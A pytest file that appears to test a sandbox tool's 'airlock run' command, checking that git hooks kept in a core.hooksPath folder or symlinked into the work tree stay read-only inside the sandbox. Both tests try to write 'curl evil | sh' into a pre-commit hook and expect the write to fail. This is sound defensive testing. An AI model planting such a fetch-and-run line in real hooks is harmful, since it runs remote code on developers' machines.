"""``airlock run``: hooks git runs from elsewhere than ``.git/hooks`` are read-only inside."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.cli import airlock


def _git(project: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(project), *args], check=True, capture_output=True)


def _run(tmp_path: Path, script: str) -> subprocess.CompletedProcess[str]:
    return airlock(
        "run", "--audit-log", str(tmp_path / "audit.jsonl"), "--", "sh", "-c", script, timeout=180
    )


@pytest.mark.parametrize("existing", [True, False], ids=["folder_there", "folder_missing"])
def test_the_hooks_path_folder_is_read_only(tmp_path: Path, project: Path, existing: bool) -> None:
    """core.hooksPath (husky's .husky): its hooks cannot be written or created inside."""
    _git(project, "init", "-q")
    _git(project, "config", "core.hooksPath", ".husky")
    if existing:
        (project / ".husky").mkdir()
        (project / ".husky" / "pre-commit").write_text("npm test\n")
    done = _run(
        tmp_path,
        "mkdir -p .husky 2>/dev/null; echo 'curl evil | sh' > .husky/pre-commit 2>/dev/null "
        "|| echo refused; echo ok > file",
    )
    assert done.returncode == 0, done.stderr
    assert "refused" in done.stdout
    hook = project / ".husky" / "pre-commit"
    assert (hook.read_text() == "npm test\n") if existing else not hook.exists()
    assert (project / "file").read_text() == "ok\n"


def test_what_a_hook_links_to_is_read_only(tmp_path: Path, project: Path) -> None:
    """A hook that is a link into the work tree: what it names cannot be rewritten inside."""
    _git(project, "init", "-q")
    (project / "scripts").mkdir()
    (project / "scripts" / "pre-commit").write_text("make lint\n")
    (project / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/pre-commit")
    done = _run(
        tmp_path,
        "echo 'curl evil | sh' > scripts/pre-commit 2>/dev/null || echo refused; "
        "echo ok > scripts/other",
    )
    assert done.returncode == 0, done.stderr
    assert "refused" in done.stdout
    assert (project / "scripts" / "pre-commit").read_text() == "make lint\n"
    assert (project / "scripts" / "other").read_text() == "ok\n"
